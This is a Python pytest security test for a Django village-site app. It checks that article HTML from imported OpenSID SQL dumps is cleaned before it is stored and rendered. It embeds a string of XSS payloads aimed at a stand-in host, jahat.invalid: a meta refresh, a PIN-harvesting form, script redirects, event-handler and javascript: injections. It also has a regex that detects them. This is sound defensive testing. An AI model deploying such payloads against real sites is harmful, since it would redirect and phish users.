"""Issue 16, finding 4: HTML that OpenSID imports store is cleaned before the public
site shows it.

On b8a3024 ``opensid_import.mapping`` wrote article bodies (``isi``) with COPY, past
``html_bersihkan``, and the article page renders them with ``|safe``: a crafted dump
put ``<meta http-equiv=refresh>`` (which the CSP does not stop) and forms on the
public site. OpenSID's own demo dump carries style attributes and an iframe.
"""

from __future__ import annotations

import re

import pytest
from django.test import Client

from tenants.context import village_context
from tests.support.shared_files import SHARED_DIR
from tests.village_apps.opensid_import.dumps import matching_tables, opensid_sql
from village_apps.opensid_import.services import opensid_import

pytestmark = [pytest.mark.security, pytest.mark.django_db]

SAMPLE = SHARED_DIR / "opensid" / "contoh_data_awal_20220601.sql"

# Each piece is something the web allowlist must take out; the good parts must stay.
HOSTILE = (
    "<p>Berita <strong>desa</strong></p>"
    '<meta http-equiv="refresh" content="0;url=https://jahat.invalid/masuk">'
    '<form action="https://jahat.invalid/pin"><input name="pin"><button>Kirim</button></form>'
    '<iframe src="https://jahat.invalid/frame"></iframe>'
    "<script>document.location='https://jahat.invalid/'</script>"
    '<p style="background:url(https://jahat.invalid/x.png)">gaya</p>'
    '<a href="javascript:location=`https://jahat.invalid`">klik</a>'
    '<img src="x" onerror="location=`https://jahat.invalid`">'
    '<object data="https://jahat.invalid/x.swf"></object><embed src="https://jahat.invalid/e">'
    '<link rel="stylesheet" href="https://jahat.invalid/x.css">'
    '<base href="https://jahat.invalid/">'
    '<svg onload="location=`https://jahat.invalid`"><a href="https://jahat.invalid/svg">s</a></svg>'
    "<style>body{background:url(https://jahat.invalid/bg)}</style>"
    '<p><a href="https://contoh.id/berita">tautan baik</a></p>'
)
FORBIDDEN = re.compile(
    r"<(meta|form|input|button|iframe|script|object|embed|link|base|svg|style)\b"
    r"|\sstyle=|javascript:|\son[a-z]+=|jahat\.invalid",
    re.IGNORECASE,
)


def forbidden(html: str) -> list[str]:
    return [m.group(0) for m in FORBIDDEN.finditer(html)]


def _article_body(page: str) -> str:
    return re.search(r'<div class="isi">(.*?)</div>\s*</article>', page, re.S)[1]


def test_hostile_article_from_an_opensid_dump_is_stored_and_shown_clean(village_b, tmp_path):
    tables = matching_tables()
    tables["kategori"] = [{"id": 1, "kategori": "Berita Desa", "slug": "berita-desa"}]
    tables["artikel"] = [
        {"id": 9, "judul": "Jebakan", "slug": "jebakan", "isi": HOSTILE, "enabled": 1,
         "id_kategori": 1, "gambar": "", "tgl_upload": "2022-05-01 08:00:00"},
    ]  # fmt: skip
    dump = tmp_path / "cadangan.sql"
    dump.write_text(opensid_sql(tables), encoding="utf-8")
    laporan = opensid_import(village=village_b, dump_path=dump)
    assert laporan.ok, laporan.errors
    with village_context(village_b):
        from village_apps.web.models import Artikel

        stored = Artikel.objects.get(judul="Jebakan").isi
    assert forbidden(stored) == []
    assert "<strong>desa</strong>" in stored and 'href="https://contoh.id/berita"' in stored
    page = Client(HTTP_HOST=village_b.host).get("/berita/jebakan/").content.decode()
    assert "jahat.invalid" not in page and 'http-equiv="refresh"' not in page
    assert forbidden(_article_body(page)) == []


@pytest.mark.shared_files("opensid/contoh_data_awal_20220601.sql")
def test_opensid_demo_dump_imports_with_its_articles_cleaned(village_b):
    raw = SAMPLE.read_text(encoding="utf-8", errors="replace")
    articles = " ".join(ln for ln in raw.splitlines() if ln.startswith("INSERT INTO `artikel`"))
    assert "<iframe" in articles and "style=" in articles  # what the demo dump carries
    laporan = opensid_import(village=village_b, dump_path=SAMPLE)
    assert laporan.ok, laporan.errors
    with village_context(village_b):
        from village_apps.web.models import Artikel

        bodies = dict(Artikel.objects.values_list("slug", "isi"))
        published = list(Artikel.objects.filter(terbit=True).values_list("slug", flat=True)[:5])
    assert len(bodies) == 36
    assert {slug: forbidden(isi) for slug, isi in bodies.items() if forbidden(isi)} == {}
    client = Client(HTTP_HOST=village_b.host)
    for slug in published:
        page = client.get(f"/berita/{slug}/")
        assert page.status_code == 200
        assert forbidden(_article_body(page.content.decode())) == []
